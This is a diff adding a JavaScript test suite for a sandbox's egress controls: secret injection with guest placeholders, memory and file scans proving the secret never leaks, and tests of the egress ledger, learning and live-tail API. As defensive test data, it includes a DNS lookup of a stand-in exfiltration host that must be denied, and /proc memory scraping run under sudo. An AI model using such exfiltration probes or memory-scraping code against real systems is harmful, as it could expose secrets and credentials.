@@ -1,0 +1,210 @@
+// SPDX-License-Identifier: Apache-2.0
+// Egress from a real guest to servers of the test's own: the README's example, the ledger as the API tells it.
+import { closeSync, openSync, readdirSync, readFileSync, readlinkSync, readSync, statSync } from "node:fs";
+import { join } from "node:path";
+import { assert, done, Sandbox, test, until } from "../sdk/lib.mjs";
+import { api, has, ledger, row, World } from "./lib-egress.mjs";
+
+const world = await World.start();
+const VALUE = "sk-live-5vTq8Zr2LmX0aYw7";
+const sandbox = await Sandbox.create({
+  timeout: "10m",
+  allowNet: ["api.egress.test", "*.egress.test", "10.199.77.14:7000"],
+  secrets: { API_KEY: { hosts: ["api.egress.test"], value: VALUE } },
+});
+const sh = async (script) => {
+  const p = await sandbox.spawn("bash", { args: ["-c", script], stdout: "piped", stderr: "piped" });
+  const out = await p.output();
+  return { code: out.status.code, out: out.stdoutText, err: out.stderrText };
+};
+
+await test("the upstream receives the secret, the guest has a placeholder", async () => {
+  await world.clear();
+  const r = await sh(`curl -sS -m 20 -H "Authorization: Bearer $API_KEY" "https://api.egress.test/ok?q=hidden-query"; echo " $API_KEY"`);
+  assert.equal(r.code, 0, r.err);
+  assert.match(r.out, /^\/ok of api\.egress\.test\n nbs_[0-9a-z]{40}\n$/);
+  const { requests } = await world.seen();
+  assert.equal(requests.length, 1);
+  assert.equal(requests[0].headers.authorization, `Bearer ${VALUE}`);
+  assert.equal(requests[0].url, "/ok?q=hidden-query");
+  const seen = await row(sandbox.id, { protocol: "https", name: "api.egress.test", method: "GET", path: "/ok", status: 200 });
+  assert.equal(seen.secret, "API_KEY");
+  assert.equal(seen.decision, "allow");
+  assert.equal(seen.rule, "allow api.egress.test");
+  assert.equal(seen.address, "10.199.77.10");
+  assert.equal(seen.port, 443);
+  assert.ok(Date.now() - Date.parse(seen.time) < 60_000);
+});
+
+await test("the value is in no memory, environment or file of the guest", async () => {
+  // The search must not hold what it looks for: a prefix, and the digest of the whole.
+  const digest = Buffer.from(await crypto.subtle.digest("SHA-256", Buffer.from(VALUE))).toString("hex");
+  await sandbox.fs.writeTextFile("/tmp/search.py", `
+import hashlib, os, re
+prefix, n, digest = bytes([c ^ 0x55 for c in ${JSON.stringify([...Buffer.from(VALUE.slice(0, 12))].map((c) => c ^ 0x55))}]), ${VALUE.length}, "${digest}"
+control = bytes([c ^ 0x55 for c in ${JSON.stringify([...Buffer.from("nbs_")].map((c) => c ^ 0x55))}])
+places, seen = [], 0
+def look(where, data):
+    global seen
+    seen += data.count(control)
+    at = data.find(prefix)
+    while at >= 0:
+        if hashlib.sha256(data[at:at + n]).hexdigest() == digest: places.append(where)
+        at = data.find(prefix, at + 1)
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    if int(pid) == os.getpid(): continue
+    for f in ("environ", "cmdline", "stack", "status"):
+        try: look(f"/proc/{pid}/{f}", open(f"/proc/{pid}/{f}", "rb").read())
+        except OSError: pass
+    try: maps = open(f"/proc/{pid}/maps").read().splitlines()
+    except OSError: continue
+    for line in maps:
+        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (....) \\S+ \\S+ (\\d+)", line)
+        if m.group(3)[0] != "r" or (m.group(4) != "0" and m.group(3)[1] != "w"): continue
+        try:
+            with open(f"/proc/{pid}/mem", "rb", 0) as mem:
+                mem.seek(int(m.group(1), 16))
+                left = int(m.group(2), 16) - int(m.group(1), 16)
+                while left > 0:
+                    data = mem.read(min(left, 1 << 22))
+                    if not data: break
+                    look(f"/proc/{pid}/mem", data); left -= len(data)
+        except (OSError, ValueError, OverflowError): pass
+for top in ("/home", "/etc", "/tmp", "/run", "/var", "/root"):
+    for d, _, files in os.walk(top):
+        for f in files:
+            try:
+                if os.path.isfile(os.path.join(d, f)): look(os.path.join(d, f), open(os.path.join(d, f), "rb").read(1 << 24))
+            except OSError: pass
+print(len(places), seen > 0, places[:5])
+`);
+  const r = await sh("sleep 60 & sudo python3 /tmp/search.py; kill %1");
+  assert.equal(r.out, "0 True []\n", r.err);
+}, 180_000);
+
+await test("the value is not in the machine's process on the host, in no file of the host's, in no log", async () => {
+  const needle = Buffer.from(VALUE);
+  const pids = readdirSync("/proc").filter((p) => /^\d+$/.test(p));
+  const machine = pids.find((pid) => {
+    try {
+      return /qemu|nestbox-vmm/.test(readFileSync(`/proc/${pid}/comm`, "utf8")) &&
+        readdirSync(`/proc/${pid}/fd`).some((fd) => readlinkSync(`/proc/${pid}/fd/${fd}`).includes(sandbox.id));
+    } catch { return false; }
+  });
+  assert.ok(machine, "the machine's process");
+  // All of the guest's memory, kernel and page cache included, and the monitor's own.
+  const mem = openSync(`/proc/${machine}/mem`, "r"), chunk = Buffer.alloc(1 << 24);
+  let bytes = 0, placeholders = 0;
+  for (const line of readFileSync(`/proc/${machine}/maps`, "utf8").split("\n")) {
+    const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
+    if (!m || line.endsWith("[vvar]") || line.endsWith("[vsyscall]")) continue;
+    for (let at = BigInt(`0x${m[1]}`), end = BigInt(`0x${m[2]}`); at < end;) {
+      let n = 0;
+      try { n = readSync(mem, chunk, 0, Number(end - at < BigInt(chunk.length) ? end - at : BigInt(chunk.length)), at); } catch { break; }
+      if (!n) break;
+      const data = chunk.subarray(0, n);
+      assert.equal(data.indexOf(needle), -1, `in ${line}`);
+      if (data.indexOf("nbs_") >= 0) placeholders++;
+      bytes += n;
+      at += BigInt(n);
+    }
+  }
+  closeSync(mem);
+  assert.ok(bytes > 256 << 20 && placeholders > 0, `${bytes} bytes, ${placeholders} placeholders: nothing was searched`);
+  let files = 0;
+  const walk = (dir) => {
+    for (const e of readdirSync(dir, { withFileTypes: true })) {
+      const path = join(dir, e.name);
+      if (e.isDirectory() && e.name !== "images") walk(path);
+      else if (e.isFile()) {
+        files++;
+        const fd = openSync(path, "r");
+        for (let at = 0, n, size = statSync(path).blocks * 512; at < size + (1 << 24) && (n = readSync(fd, chunk, 0, chunk.length, at)); at += n - 64 > 0 ? n - 64 : n)
+          assert.equal(chunk.subarray(0, n).indexOf(needle), -1, `in ${path}`);
+        closeSync(fd);
+      }
+    }
+  };
+  for (const dir of [process.env.NESTBOX_STATE, process.env.NESTBOX_LOGS]) if (dir) walk(dir);
+  assert.ok(files > 10 || !process.env.NESTBOX_STATE);
+  for (const pid of pids) {
+    let text = "";
+    try { text = readFileSync(`/proc/${pid}/environ`, "latin1") + readFileSync(`/proc/${pid}/cmdline`, "latin1"); } catch { continue; }
+    if (Number(pid) !== process.pid) assert.ok(!text.includes(VALUE), `process ${pid}`);
+  }
+  const shown = await Promise.all([`/api/v2/sandboxes/${sandbox.id}`, "/api/v2/sandboxes", `/api/v2/sandboxes/${sandbox.id}/egress`].map((p) => api(p)));
+  for (const r of shown) assert.ok(r.status === 200 && !r.body.includes(VALUE));
+}, 180_000);
+
+await test("rows: filters, pages, lines, and no query string", async () => {
+  const since = new Date().toISOString();
+  await sh(`for i in 1 2 3; do curl -sS -m 20 "http://web.egress.test/page$i?token=query-secret" >/dev/null; done
+    getent hosts exfiltrated-data.evil.test; curl -s -m 10 https://10.199.77.12/; python3 -c 'import socket; socket.create_connection(("10.199.77.14", 7000), 10).close()'`);
+  await row(sandbox.id, { protocol: "dns", name: "exfiltrated-data.evil.test", decision: "deny", rule: "no allow rule names it" });
+  await row(sandbox.id, { protocol: "tls", address: "10.199.77.12", port: 443, decision: "deny" });
+  await row(sandbox.id, { address: "10.199.77.14", port: 7000, decision: "allow", rule: "allow 10.199.77.14:7000" });
+  await until(async () => (await ledger(sandbox.id, "&host=web.egress.test")).length >= 3, 20_000);
+  const all = await ledger(sandbox.id);
+  assert.ok(!JSON.stringify(all).includes("query-secret") && !JSON.stringify(all).includes("hidden-query"));
+  for (const r of all) assert.ok(r.sandbox === sandbox.id && r.org && r.time && r.decision);
+  assert.deepEqual(all.map((r) => r.time), all.map((r) => r.time).toSorted());
+  const denied = await ledger(sandbox.id, "&decision=deny");
+  assert.deepEqual(denied, all.filter((r) => r.decision === "deny"));
+  assert.deepEqual(await ledger(sandbox.id, "&host=*.egress.test"), all.filter((r) => r.name?.endsWith(".egress.test")));
+  assert.deepEqual(await ledger(sandbox.id, `&start=${since}`), all.filter((r) => r.time >= since));
+  assert.deepEqual(await ledger(sandbox.id, `&end=${since}`), all.filter((r) => r.time <= since));
+  // One row a page.
+  const paged = [];
+  for (let url = `/api/v2/sandboxes/${sandbox.id}/egress?limit=1&end=${since}`; url;) {
+    const r = await api(url);
+    assert.ok(r.json().egress.length <= 1);
+    paged.push(...r.json().egress);
+    url = /<([^>]+)>; rel="next"/.exec(r.headers.get("link") ?? "")?.[1];
+  }
+  assert.deepEqual(paged.reverse(), all.filter((r) => r.time <= since));
+  const lines = await api(`/api/v2/egress?format=jsonl&sandbox=${sandbox.id}`);
+  assert.equal(lines.headers.get("content-type"), "application/x-ndjson");
+  assert.deepEqual(lines.body.trimEnd().split("\n").map((l) => JSON.parse(l)).slice(-all.length), all.toReversed());
+  for (const bad of ["limit=0", "limit=1001", "start=yesterday", "decision=maybe", "format=xml", "cursor=../../x~1", "protocol=ipx"])
+    assert.equal((await api(`/api/v2/sandboxes/${sandbox.id}/egress?${bad}`)).status, 400, bad);
+  assert.equal((await api("/api/v2/sandboxes/sbx_ord_00000000000000000000/egress")).status, 404);
+});
+
+await test("what was reached is what learning proposes", async () => {
+  const { allow_net, complete } = (await api(`/api/v2/sandboxes/${sandbox.id}/egress/learn`)).json();
+  assert.deepEqual(allow_net, ["10.199.77.14:7000", "api.egress.test:443", "web.egress.test:80"]);
+  assert.equal(complete, true);
+});
+
+await test("a live tail has this sandbox's rows as they are written", async () => {
+  const stop = new AbortController();
+  const r = await fetch(new URL(`/api/v2/sandboxes/${sandbox.id}/egress/tail`, process.env.DENO_SANDBOX_ENDPOINT),
+    { headers: { authorization: `Bearer ${process.env.DENO_DEPLOY_TOKEN}` }, signal: stop.signal });
+  assert.equal(r.headers.get("content-type"), "text/event-stream");
+  await using other = await Sandbox.create({ allowNet: ["web.egress.test"] });
+  await other.sh`curl -sS -m 20 http://web.egress.test/other`.text();
+  await sh("curl -sS -m 20 http://web.egress.test/tail");
+  let text = "";
+  const got = (async () => {
+    for await (const c of r.body) {
+      text += Buffer.from(c).toString();
+      if (/^data: .*"name":"web.egress.test".*\n\n/m.test(text)) return;
+    }
+  })();
+  await got;
+  stop.abort();
+  const rows = [...text.matchAll(/^data: (.*)$/gm)].map((m) => JSON.parse(m[1]));
+  assert.ok(rows.every((x) => x.sandbox === sandbox.id));
+  assert.ok(has(rows, { name: "web.egress.test", decision: "allow" }));
+  // From a time on: what came before is there, too.
+  const from = await fetch(new URL(`/api/v2/egress/tail?since=${rows.at(-1).time.replace(/.{4}Z$/, "Z")}&format=jsonl`, process.env.DENO_SANDBOX_ENDPOINT),
+    { headers: { authorization: `Bearer ${process.env.DENO_DEPLOY_TOKEN}` }, signal: AbortSignal.timeout(20_000) });
+  const reader = from.body.getReader();
+  const { value } = await reader.read();
+  assert.ok(JSON.parse(Buffer.from(value).toString().split("\n")[0]).time >= rows.at(-1).time.slice(0, 19));
+  await reader.cancel();
+});
+
+await sandbox.kill();
+await world.stop();
+await done();
